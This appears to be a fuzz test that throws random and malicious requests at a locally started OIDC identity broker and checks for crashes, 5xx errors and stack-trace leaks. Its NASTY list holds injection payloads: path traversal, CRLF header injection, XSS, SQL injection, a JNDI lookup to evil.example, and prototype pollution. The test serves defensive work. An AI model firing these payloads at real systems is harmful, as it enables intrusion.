import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import { errorText, escapeHtml } from '../../src/pages/index.ts';
import { RP, startFederation, type Federation } from '../support/federation.ts';
import { Browser, type BrowserResponse } from '../support/http-client.ts';

/*
 * Property-based hostile input: random and malicious authorization, token and callback requests
 * against a running Concord (two real partner IdPs behind it). Whatever comes in, the answer is
 * never a 5xx, never late, and never shows a stack trace or a file path. About 280 requests in all.
 */

const TIMEOUT_MS = 5000;
/** FUZZ_SCALE=10 for a longer hunt; the default keeps the file at a few seconds. */
const SCALE = Math.max(1, Number(process.env.FUZZ_SCALE) || 1);
const UPSTREAM_HEADINGS = (['upstream_unavailable', 'upstream_error', 'upstream_invalid'] as const).map((page) => errorText(page).heading);
/** A stack frame, a source location or a path of this machine in a response body. */
const LEAK = /\n\s*at \S+ \(|\bat (file:|node:|\/)|\/work\/|node_modules|\.(ts|js):\d+:\d+|\bError: .*\n\s+at /;

const NASTY = [
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '..\\..\\windows\\win.ini',
  '\r\nSet-Cookie: pwned=1',
  '%0d%0aLocation:%20https://evil.example',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR '1'='1' --",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '{"__proto__":{"polluted":true}}',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  '%00',
  '\u0000',
  '\uFEFF',
  '\uD800',
  '💥'.repeat(50),
  'e\u0301'.repeat(20),
  'http://evil.example/cb',
  'javascript:alert(1)',
  '//evil.example',
  '-1',
  '1e309',
  'NaN',
  '',
  ' ',
];

const KNOWN = {
  client_id: RP.client_id,
  redirect_uri: RP.redirect_uris[0]!,
  response_type: 'code',
  scope: 'openid email profile',
  code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
  code_challenge_method: 'S256',
  state: 'fuzz-state',
  nonce: 'fuzz-nonce',
};
const PARAM_NAMES = [
  ...Object.keys(KNOWN),
  'login_hint',
  'idp_hint',
  'prompt',
  'response_mode',
  'max_age',
  'claims',
  'request',
  'request_uri',
  'resource',
  'ui_locales',
  'id_token_hint',
  'acr_values',
  'grant_type',
  'code',
  'code_verifier',
  'refresh_token',
  'client_secret',
  'client_assertion',
  'client_assertion_type',
  'token',
  'iss',
  'error',
  'error_description',
  'session_state',
];

const value = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 3, arbitrary: fc.constantFrom(...NASTY, ...Object.values(KNOWN), 'alice@acme.example', 'bob@globex.example', 'x@unknown.example', 'acme', 'globex', 'none', 'login', 'consent', 'form_post', 'fragment', 'query', 'authorization_code', 'refresh_token', 'client_credentials') },
  { weight: 1, arbitrary: fc.integer({ min: 500, max: 12_000 }).map((n) => 'A'.repeat(n)) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...NASTY), fc.integer({ min: 2, max: 400 })).map(([s, n]) => s.repeat(n)) },
);
const name = fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...PARAM_NAMES) }, { weight: 1, arbitrary: fc.string({ minLength: 1, maxLength: 20 }) }, { weight: 1, arbitrary: fc.constantFrom(...NASTY.filter(Boolean)) });
/** Each value either properly encoded or put in raw (broken %-escapes, reserved characters and all). */
const pair = fc.tuple(name, value, fc.boolean());
const pairs = fc.array(pair, { maxLength: 10 });

/** Lone surrogates replaced (encodeURIComponent throws on them; raw mode sends them as they are). */
const wellFormed = (s: string) => s.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');

function query(list: Array<readonly [string, string, boolean]>): string {
  return list.map(([k, v, raw]) => (raw ? `${k}=${v}` : `${encodeURIComponent(wellFormed(k))}=${encodeURIComponent(wellFormed(v))}`)).join('&');
}

/** Printable ASCII only: header values cannot carry anything else (CR/LF injection is tried in parameters). */
const headerValue = fc.string({ maxLength: 200 }).map((s) => s.replace(/[^\x20-\x7E]/g, ''));
const authorization = fc.oneof(
  fc.constant(undefined),
  fc.constant(`Basic ${Buffer.from(`${RP.client_id}:${RP.client_secret}`).toString('base64')}`),
  fc.tuple(value, value).map(([u, p]) => `Basic ${Buffer.from(`${u}:${p}`).toString('base64')}`),
  headerValue.map((v) => `Basic ${v}`),
  headerValue.map((v) => `Bearer ${v}`),
  headerValue,
);
const contentType = fc.constantFrom(
  undefined,
  'application/x-www-form-urlencoded',
  'application/x-www-form-urlencoded; charset=utf-8',
  'application/x-www-form-urlencoded; charset=utf-16',
  'application/json',
  'text/plain',
  'multipart/form-data; boundary=xyz',
  'application/xml',
  'application/x-www-form-urlencoded, application/json',
  '*/*',
);
const method = fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD');

function body(list: Array<readonly [string, string, boolean]>, kind: 'form' | 'json' | 'junk', junk: string): string {
  if (kind === 'form') return query(list);
  if (kind === 'json') return JSON.stringify(Object.fromEntries(list.map(([k, v]) => [k, v])));
  return junk;
}

describe('fuzzing the public endpoints', () => {
  let fed: Federation;
  let issuer: string;
  let count = 0;

  before(async () => {
    fed = await startFederation({ settings: { logLevel: 'warn', rateLimits: { enabled: false } } });
    issuer = fed.concord.issuer;
  });
  after(async () => {
    await fed.close();
  });

  /**
   * The checks every answer must pass. The one 5xx allowed is the designed answer about a partner's
   * IdP (502/503 pages: it refused, failed the checks or is unreachable), never a crash.
   */
  function judge(label: string, status: number, text: string, chain: Array<{ status: number; url: URL }> = []) {
    count++;
    const designed = status >= 500 && UPSTREAM_HEADINGS.some((heading) => text.includes(escapeHtml(heading)));
    for (const hop of chain.slice(0, -1)) assert.ok(hop.status < 500, `${label}: ${hop.status} at ${hop.url.pathname}`);
    assert.ok(status < 500 || designed, `${label}: status ${status}: ${text.slice(0, 300)}`);
    assert.doesNotMatch(text, LEAK, `${label}: a stack trace or path in the body`);
  }

  async function raw(methodName: string, path: string, init: { headers?: Record<string, string | undefined>; body?: string } = {}) {
    const headers = Object.fromEntries(Object.entries(init.headers ?? {}).filter(([, v]) => v !== undefined)) as Record<string, string>;
    const canHaveBody = !['GET', 'HEAD'].includes(methodName);
    const response = await fetch(`${issuer}${path}`, {
      method: methodName,
      headers,
      redirect: 'manual',
      signal: AbortSignal.timeout(TIMEOUT_MS),
      ...(canHaveBody && init.body !== undefined ? { body: init.body } : {}),
    });
    const text = await response.text();
    judge(`${methodName} ${path.slice(0, 120)}`, response.status, text);
    return response;
  }

  it('authorization requests: valid ones with hostile parameters mixed in, followed through Concord', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.subarray(Object.keys(KNOWN) as Array<keyof typeof KNOWN>),
        pairs,
        fc.boolean(),
        async (kept, extra, post) => {
          const base = kept.map((k) => [k, KNOWN[k], false] as const);
          const q = query([...base, ...extra]);
          const browser = new Browser({ timeoutMs: TIMEOUT_MS, maxRedirects: 6 });
          const stopAt = (url: URL) => url.origin !== issuer;
          let page: BrowserResponse;
          if (post) {
            const response = await raw('POST', '/auth', { headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'text/html' }, body: q });
            assert.ok(response.status < 500);
            return;
          }
          page = await browser.get(`${issuer}/auth?${q}`, { stopAt });
          judge(`GET /auth?${q.slice(0, 200)}`, page.status, page.body, page.chain);
          // On a login page: post a hostile email into the home-realm form as well.
          if (page.url.pathname.startsWith('/interaction/') && page.status === 200 && page.body.includes('name="email"')) {
            page = await browser.post(new URL(`${page.url.pathname}/login`, issuer), { email: extra[0]?.[1] ?? 'x' }, { stopAt });
            judge('POST login form', page.status, page.body, page.chain);
          }
        },
      ),
      { numRuns: 80 * SCALE, endOnFailure: true },
    );
  });

  it('token requests: any method, content type, client authentication and body', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('POST', 'POST', 'POST', 'GET', 'PUT', 'OPTIONS'),
        fc.constantFrom('/token', '/token', '/token/introspection', '/token/revocation'),
        contentType,
        authorization,
        pairs,
        fc.constantFrom('form', 'form', 'json', 'junk') as fc.Arbitrary<'form' | 'json' | 'junk'>,
        value,
        fc.constantFrom('authorization_code', 'refresh_token', 'client_credentials', 'urn:ietf:params:oauth:grant-type:device_code', 'password', 'implicit'),
        async (m, path, type, auth, extra, kind, junk, grant) => {
          const list = [['grant_type', grant, false] as const, ...extra];
          await raw(m, path, { headers: { 'content-type': type, authorization: auth, accept: 'application/json' }, body: body(list, kind, junk) });
        },
      ),
      { numRuns: 70 * SCALE, endOnFailure: true },
    );
  });

  it('upstream callbacks: hostile answers to a real pending login', async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom('acme', 'globex', 'nope', '%2e%2e', 'acme%00'), pairs, fc.boolean(), fc.boolean(), async (participant, extra, withState, onInteraction) => {
        // Begin a real login so the callback carries a state Concord is waiting for.
        const browser = new Browser({ timeoutMs: TIMEOUT_MS });
        const begin = await browser.get(`${issuer}/auth?${query(Object.entries({ ...KNOWN, login_hint: 'alice@acme.example' }).map(([k, v]) => [k, v, false] as const))}`, {
          stopAt: (url) => url.origin !== issuer,
        });
        judge('begin login', begin.status, begin.body, begin.chain);
        const upstream = begin.stoppedAt;
        assert.ok(upstream, `the login goes to the partner: ${begin.status} ${begin.url.href}`);
        const state = upstream.searchParams.get('state') ?? '';
        const list = [...(withState ? [['state', state, false] as const] : []), ...extra];
        const target = onInteraction ? `${issuer}${begin.chain.at(-1)!.url.pathname.replace(/\/?$/, '')}/callback?${query(list)}` : `${issuer}/broker/${participant}/callback?${query(list)}`;
        const page = await browser.get(target, { stopAt: (url) => url.origin !== issuer });
        judge(`callback ${target.slice(issuer.length, issuer.length + 200)}`, page.status, page.body, page.chain);
      }),
      { numRuns: 50 * SCALE, endOnFailure: true },
    );
  });

  it('anything at all: paths, methods, content types, bodies', async () => {
    const paths = fc.oneof(
      fc.constantFrom(
        '/auth',
        '/auth/abc',
        '/interaction/abc',
        '/interaction/abc/login',
        '/interaction/abc/consent',
        '/interaction/abc/callback',
        '/interaction/..%2f..%2fetc%2fpasswd',
        '/broker/acme/callback',
        '/broker/%2e%2e%2f%2e%2e/callback',
        '/broker/acme/logged-out',
        '/session/end',
        '/session/end/confirm',
        '/me',
        '/jwks',
        '/.well-known/openid-configuration',
        '/.well-known/../../etc/passwd',
        '/assets/concord.css',
        '/assets/..%2f..%2fpackage.json',
        '/views/error.html',
        '/src/main.ts',
        '/%00',
        '/%ZZ',
        '/admin/v1/participants',
        '/metrics',
        '/reg',
        '/request',
      ),
      fc.string({ maxLength: 60 }).map((s) => `/${encodeURIComponent(s)}`),
      fc.string({ maxLength: 60 }).map((s) => `/interaction/${encodeURIComponent(s)}`),
    );
    await fc.assert(
      fc.asyncProperty(method, paths, pairs, contentType, authorization, fc.constantFrom('form', 'json', 'junk') as fc.Arbitrary<'form' | 'json' | 'junk'>, value, headerValue, async (m, path, list, type, auth, kind, junk, cookie) => {
        const q = query(list);
        await raw(m, `${path}${q ? `?${q}` : ''}`, {
          headers: { 'content-type': type, authorization: auth, cookie: cookie ? `_interaction=${cookie.replace(/[;,\s]/g, '')}` : undefined, accept: 'text/html,application/json;q=0.9' },
          body: body(list, kind, junk),
        });
      }),
      { numRuns: 80 * SCALE, endOnFailure: true },
    );
  });

  it('sent what it meant to, and Concord is still healthy', async () => {
    assert.ok(count >= 250 * SCALE, `only ${count} requests`);
    assert.equal((await fetch(`${issuer}/readyz`)).status, 200);
    // The partner's refusals are logged as errors on purpose; a crash is the internal page or a 500.
    const crashes = fed.concord.logs.filter((l) => l.level === 'fatal' || l.page === 'internal' || l.status === 500 || l.msg === 'oidc-provider server error');
    assert.deepEqual(
      crashes.map((l) => `${String(l.msg)} ${String(l.url ?? '')}`),
      [],
      'no crash hidden behind a page',
    );
  });
});
